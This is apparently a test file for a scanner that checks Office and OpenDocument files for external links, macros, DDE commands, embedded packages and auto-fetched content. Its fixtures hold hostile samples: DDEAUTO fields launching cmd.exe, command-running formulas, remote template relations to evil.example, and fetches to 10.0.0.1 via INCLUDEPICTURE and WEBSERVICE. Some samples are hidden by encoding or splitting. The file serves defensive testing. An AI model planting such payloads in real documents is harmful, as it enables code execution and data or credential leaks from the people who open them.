// Longer than 400 lines because what Office files can do, and what of it is refused, reads as one list.
import { describe, expect, it } from 'vitest'
import { examine } from './examine.ts'
import { testFolder } from './test-folder.ts'
import { docxOf, odsOf, type ZipPart, zipOf } from './test-specimens.ts'

const put = testFolder('office-deeds')

const verdictOn = async (bytes: Uint8Array, name: string) => {
  const path = await put(bytes)
  const found = await examine(path, name, null)
  return found.outcome === 'refused' ? found.objection.objection : found.outcome
}
const docx = (...parts: ZipPart[]) => verdictOn(docxOf(parts), 'a.docx')
const ods = (...parts: ZipPart[]) => verdictOn(odsOf(parts), 'a.ods')

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relation = (kind: string, rest = 'Target="https://evil.example/a" TargetMode="External"') =>
  `<Relationship Id="r1" Type="${office}/${kind}" ${rest}/>`
const rels = (inner: string, name = 'word/_rels/settings.xml.rels'): ZipPart => ({
  name,
  data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`,
})
const inBytes = (part: ZipPart, turn: (text: string) => Buffer): ZipPart => ({
  name: part.name,
  data: turn(String(part.data).replace('encoding="UTF-8" ', '')),
})
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')
const utf32 = (text: string) => {
  const bytes = Buffer.alloc(4 * (text.length + 1))
  for (const [at, letter] of [...`\ufeff${text}`].entries())
    bytes.writeUInt32LE(letter.codePointAt(0) ?? 0, at * 4)
  return bytes
}
const template = relation('attachedTemplate')

describe('a relation to what is elsewhere is found', () => {
  it.each([
    ['in two bytes a letter', inBytes(rels(template), utf16)],
    [
      'in two bytes a letter, the other way round and without a mark',
      inBytes(rels(template), (text) => utf16(text).subarray(2).swap16()),
    ],
    ['behind five megabytes of blanks', rels(`${' '.repeat(5 * 2 ** 20)}${template}`)],
    ['behind an attribute that looks like an end', rels(template.replace('Id="r1"', 'Id="a>b"'))],
    ['with its mode in codes', rels(template.replace('"External"', '"&#69;xternal"'))],
    ['with its mode in other letters and blanks', rels(template.replace('"External"', '" EXTERNAL "'))],
    ['with its kind in codes', rels(template.replace('Template', '&#84;emplate'))],
    ['with a blank after its kind', rels(template.replace('Template"', 'Template "'))],
    [
      'under a prefix',
      rels(
        template.replace(
          '<Relationship',
          '<p-x:Relationship xmlns:p-x="http://schemas.openxmlformats.org/package/2006/relationships"',
        ),
      ),
    ],
    ['behind a decoy', rels(template.replace('Id=', 'xmlns:d="d" d:TargetMode="Internal" Id='))],
    ['in a part of another spelling', rels(template, 'word/_rels/settings.xml.RELS')],
    ['by an address alone', rels(relation('image', 'Target="https://evil.example/a.png"'))],
    ['by a share', rels(relation('image', 'Target="\\\\10.0.0.1\\a.png"'))],
    ['of a page taken in', rels(relation('aFChunk'))],
    ['of a page taken in from within', rels(relation('aFChunk', 'Target="a.html"'))],
    ['of a picture', rels(relation('image'))],
    ['of a workbook', rels(relation('externalLinkPath'), 'xl/externalLinks/_rels/externalLink1.xml.rels')],
    ['of a film', rels(relation('video'), 'ppt/slides/_rels/slide1.xml.rels')],
    ['of a kind nobody has heard of', rels(relation('somethingNew'))],
  ])('%s', async (_, part) => {
    expect(await docx(part)).toBe('reaches-out')
  })
  it('in a document within the document', async () => {
    expect(await docx({ name: 'word/embeddings/a.docx', data: docxOf([rels(template)]) })).toBe('reaches-out')
  })
})

describe('a part that nobody can look into is refused', () => {
  it.each([
    [
      'four bytes a letter',
      inBytes({ name: 'word/a.xml', data: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }, utf32),
    ],
    [
      'an encoding in which letters are markup',
      { name: 'word/a.xml', data: '<?xml version="1.0" encoding="UTF-7"?><a/>' },
    ],
    ['no end', { name: 'word/a.xml', data: '<a><b></a>' }],
    ['bytes that are no letters', { name: 'word/_rels/a.xml.rels', data: Buffer.from('3c61ff2f3e', 'hex') }],
  ])('with %s', async (_, part) => {
    expect(await docx(part)).toBe('damaged')
  })
  it('under two names that differ in capitals only', async () => {
    expect(await docx(rels(''), rels('', 'word/_rels/Settings.xml.rels'))).toBe('damaged')
  })
  it('under a name that is none of XML', async () => {
    const types = `<Types xmlns="t"><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
    const bytes = zipOf([
      { name: '[Content_Types].xml', data: types },
      { name: 'word/document.xml', data: '<w/>' },
      { name: 'word/real.bin', data: '<w/>' },
    ])
    expect(await verdictOn(bytes, 'a.docx')).toBe('disguised')
  })
})

const piece = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const paragraph = (inner: string, name = 'word/header1.xml'): ZipPart => ({
  name,
  data: `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>${inner}</w:p></w:hdr>`,
})
const field = (...pieces: string[]) =>
  paragraph(
    `${mark('begin')}${pieces.map(piece).join('')}${mark('separate')}<w:r><w:t>x</w:t></w:r>${mark('end')}`,
  )
const sheet = (inner: string, name = 'xl/worksheets/sheet1.xml'): ZipPart => ({
  name,
  data: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${inner}</worksheet>`,
})

describe('orders to other programs are refused', () => {
  it.each([
    ['a field', field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')],
    ['a field in pieces', field(' DD', 'EAU', 'TO cmd ')],
    ['a field in codes', field(' &#68;DE cmd ')],
    ['a field in one', paragraph('<w:fldSimple w:instr=" DDE cmd a "><w:r/></w:fldSimple>')],
    ['a field without a beginning', paragraph(piece('DDEAUTO cmd'))],
    [
      'a field in the field of a page number',
      paragraph(
        `${mark('begin')}${piece(' IF ')}${mark('begin')}${piece('DDE cmd')}${mark('end')}${piece('= 1')}${mark('end')}`,
      ),
    ],
    [
      'a link of a workbook',
      inBytes(
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        },
        utf16,
      ),
    ],
    ['a formula', sheet(`<c><f>cmd|'/c calc'!A0</f></c>`)],
    ['a name', sheet('<definedName name="a">EXEC("calc")</definedName>', 'xl/workbook2.xml')],
    [
      'a click on a slide',
      { name: 'ppt/slides/slide1.xml', data: '<p><a:hlinkMouseOver action="ppaction://program"/></p>' },
    ],
    [
      'code under another name',
      rels(
        '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/>',
      ),
    ],
    [
      'a type in two bytes a letter',
      {
        name: 'b/[Content_Types].xml',
        data: utf16(
          '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
      },
    ],
  ])('in %s', async (_, part) => {
    expect(await docx(part)).toBe('has-macros')
  })
  it.each([
    ['a connection', '<a xmlns:text="t"><text:dde-connection-decl office:dde-application="soffice"/></a>'],
    [
      'a formula',
      '<a><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/></a>',
    ],
    ['an event', '<a><script:event-listener xlink:href="vnd.sun.star.script:a?language=Basic"/></a>'],
  ])('in %s of an OpenDocument file', async (_, data) => {
    expect(await ods({ name: 'styles.xml', data })).toBe('has-macros')
  })
})

const compound = (...names: string[]): Buffer =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(70_000),
    ...names.map((name) => Buffer.from(name, 'utf16le')),
    Buffer.alloc(900),
  ])
const embedded = (...names: string[]): ZipPart => ({
  name: 'word/embeddings/oleObject1.bin',
  data: compound(...names),
})

describe('an object within a document', () => {
  it.each([
    ['a wrapped file is refused', embedded('\u0001Ole10Native'), 'holds-files'],
    [
      'code of an old document is refused',
      embedded('Workbook', '_VBA_PROJECT_CUR', '_VBA_PROJECT'),
      'has-macros',
    ],
    ['a formula is taken', embedded('\u0001Ole', 'Equation Native'), 'accepted'],
    [
      'words that look like a wrapped file are taken',
      { name: 'word/media/a.dat', data: Buffer.from('Ole10Native', 'utf16le') },
      'accepted',
    ],
    ['a table of today is taken', { name: 'word/embeddings/a.xlsx', data: docxOf([]) }, 'accepted'],
  ] as const)('that holds %s', async (_, part, verdict) => {
    expect(await docx(part)).toBe(verdict)
  })

  it('is looked at in OpenDocument files as well', async () => {
    expect(await ods({ name: 'Object 1', data: compound('\u0001Ole10Native') })).toBe('holds-files')
  })
})

describe('an add-in is refused', () => {
  const microsoft = 'http://schemas.microsoft.com/office'
  it.each([
    ['with buttons that call code', `${microsoft}/2006/relationships/ui/extensibility`, 'has-macros'],
    ['with buttons of a later Office', `${microsoft}/2007/relationships/ui/extensibility`, 'has-macros'],
    ['with buttons of its user', `${microsoft}/2006/relationships/ui/userCustomization`, 'has-macros'],
    ['with its bars', `${microsoft}/2006/relationships/attachedToolbars`, 'has-macros'],
    ['from the web', `${microsoft}/2011/relationships/webextensiontaskpanes`, 'reaches-out'],
    ['of ActiveX', `${office}/control`, 'has-macros'],
  ] as const)('%s', async (_, type, verdict) => {
    const part = rels(`<Relationship Id="r1" Type="${type}" Target="customUI/customUI.xml"/>`, '_rels/.rels')
    expect(await docx(part)).toBe(verdict)
  })

  it('as a workbook that is one', async () => {
    const types =
      '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.addin.macroEnabled.main+xml"/></Types>'
    const bytes = zipOf([
      { name: '[Content_Types].xml', data: types },
      { name: 'xl/workbook.xml', data: '<workbook/>' },
    ])
    expect([await verdictOn(bytes, 'a.xlsx'), await verdictOn(bytes, 'a.xlam')]).toEqual([
      'has-macros',
      'kind-not-accepted',
    ])
  })
})

describe('what is fetched by itself is refused', () => {
  it.each([
    ['a picture in a field', field(' INCLUDEPICTURE "http://10.0.0.1/a.png" \\d ')],
    ['a text in a field', field(' INCLUDETEXT "\\\\10.0.0.1\\a.docx" ')],
    ['a picture in a drawing', paragraph('<w:pict><v:imagedata src="http://10.0.0.1/a.png"/></w:pict>')],
    [
      'a picture in a drawing of its own',
      {
        name: 'xl/drawings/vmlDrawing1.vml',
        data: '<xml><br><v:imagedata src="&#104;ttp://10.0.0.1/a.png"></xml>',
      },
    ],
    [
      'a connection',
      sheet('<connections><connection id="1" refreshOnLoad="1"/></connections>', 'xl/connections.xml'),
    ],
    [
      'a connection every few minutes',
      sheet('<connections><connection id="1" interval="5"/></connections>', 'xl/connections.xml'),
    ],
    [
      'a table of a connection',
      sheet(
        '<pivotCacheDefinition refreshOnLoad="true"><cacheSource type="external"/></pivotCacheDefinition>',
      ),
    ],
    ['a formula', sheet('<c><f>1+_xlfn.WEB&#83;ERVICE("http://10.0.0.1/")</f></c>')],
    ['a picture in a formula', sheet('<c><f>_xlfn.IMAGE("http://10.0.0.1/")</f></c>')],
    ['a rule of colours', sheet('<cfRule><formula>WEBSERVICE("http://10.0.0.1/")</formula></cfRule>')],
  ])('%s', async (_, part) => {
    expect(await docx(part)).toBe('reaches-out')
  })
  it.each([
    ['a picture', '<a><draw:image xlink:href="http://10.0.0.1/a.png"/></a>'],
    ['a picture beside the file', '<a><draw:image xlink:href="../a.png"/></a>'],
    ['a section', '<a><text:section-source xlink:href="//10.0.0.1/a.odt"/></a>'],
    ['a table', '<a><table:table-source xlink:href="file:///a.ods"/></a>'],
    ['a formula', '<a><c table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://10.0.0.1/&quot;)"/></a>'],
  ])('%s of an OpenDocument file', async (_, data) => {
    expect(await ods({ name: 'styles.xml', data })).toBe('reaches-out')
  })
})

describe('what people save every day is taken', () => {
  it.each([
    [
      'links and pictures',
      rels(
        `${relation('hyperlink')}<Relationship Id="r2" Type="${office}/image" Target="media/image1.png"/><Relationship Id="r3" Type="${office}/styles" Target="/word/styles.xml" TargetMode="Internal"/>`,
      ),
    ],
    [
      'links of the strict form',
      rels(
        '<Relationship Id="r" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink" Target="mailto:a@example.com" TargetMode="External"/>',
      ),
    ],
    [
      'links to a share',
      rels(relation('hyperlink', 'Target="file:///\\\\nas\\a.pdf" TargetMode="External"')),
    ],
    [
      'page numbers, a table of contents and links in fields',
      paragraph(
        [
          'PAGE',
          'TOC \\o "1-3" \\h',
          'HYPERLINK "https://www.gov.tw/"',
          'MERGEFIELD DDE',
          'MACROBUTTON NoMacro [按此]',
          'INCLUDEPICTURE "cid:image001.png@01D0" \\* MERGEFORMATINET',
        ]
          .map((code) => `${mark('begin')}${piece(code)}${mark('separate')}${mark('end')}`)
          .join(''),
      ),
    ],
    ['words about orders', paragraph('<w:r><w:t>DDEAUTO cmd, =WEBSERVICE("http://a")</w:t></w:r>')],
    [
      'formulas',
      sheet(
        `<c><f>SUM('甲|乙'!A1:A9)&amp;"a|WEBSERVICE("""</f></c><c><f>HYPERLINK("https://www.gov.tw/","a")</f></c><c><f>VLOOKUP(A1,Sheet2!A:B,2,0)</f></c><c><f>_xlfn.IFS(CALLS(1),2)</f></c>`,
      ),
    ],
    [
      'a connection that waits to be asked',
      sheet(
        '<connections><connection id="1" type="5" refreshedVersion="6" background="1"/></connections>',
        'xl/connections.xml',
      ),
    ],
    [
      'a table over its own cells that is brought up to date',
      sheet('<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>'),
    ],
    [
      'comments as drawings that are not well-formed',
      {
        name: 'xl/drawings/vmlDrawing1.vml',
        data: '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><font>a<br></font></v:shape></xml>',
      },
    ],
    [
      'properties in two bytes a letter',
      { name: 'customXml/item1.xml', data: utf16('<?xml version="1.0" encoding="UTF-16"?><a/>') },
    ],
    ['a drawing within a slide', { name: '[trash]/0000.dat', data: 'x' }],
  ])('a document with %s', async (_, part) => {
    expect(await docx(part)).toBe('accepted')
  })
  it('a document whose parts are named as Office, LibreOffice and Google name them', async () => {
    const types = [
      'rels',
      'application/vnd.openxmlformats-package.relationships+xml',
      'xml',
      'application/xml',
      'png',
      'image/png',
      'svg',
      'image/svg+xml',
      'vml',
      'application/vnd.openxmlformats-officedocument.vmlDrawing',
      'bin',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings',
    ]
    const defaults = types.flatMap((type, at) =>
      at % 2 === 0 ? [`<Default Extension="${type}" ContentType="${types[at + 1]}"/>`] : [],
    )
    const bytes = zipOf([
      {
        name: '[Content_Types].xml',
        data: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${defaults.join('')}<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
      },
      rels(`<Relationship Id="r1" Type="${office}/officeDocument" Target="xl/workbook.xml"/>`, '_rels/.rels'),
      {
        name: 'xl/workbook.xml',
        data: '<workbook><definedNames><definedName name="_xlnm.Print_Area">Sheet1!$A$1:$C$9</definedName></definedNames></workbook>',
      },
      { name: 'xl/printerSettings/printerSettings1.bin', data: 'x' },
    ])
    expect(await verdictOn(bytes, 'a.xlsx')).toBe('accepted')
  })
  it.each([
    [
      'links, pictures and objects within',
      {
        name: 'styles.xml',
        data: '<a><text:a xlink:href="https://www.gov.tw/"/><draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/><c table:formula="of:=SUM({1;2|3;4})"/></a>',
      },
    ],
    [
      'the template it was made from',
      { name: 'meta.xml', data: '<a><meta:template xlink:href="../../usr/share/a.ott"/></a>' },
    ],
    [
      'a click on a slide',
      {
        name: 'styles.xml',
        data: '<a><presentation:event-listener presentation:action="next-page" xlink:href="#page2"/></a>',
      },
    ],
    ['settings that are empty', { name: 'Configurations2/accelerator/current.xml', data: '' }],
  ])('an OpenDocument file with %s', async (_, part) => {
    expect(await ods(part)).toBe('accepted')
  })
})
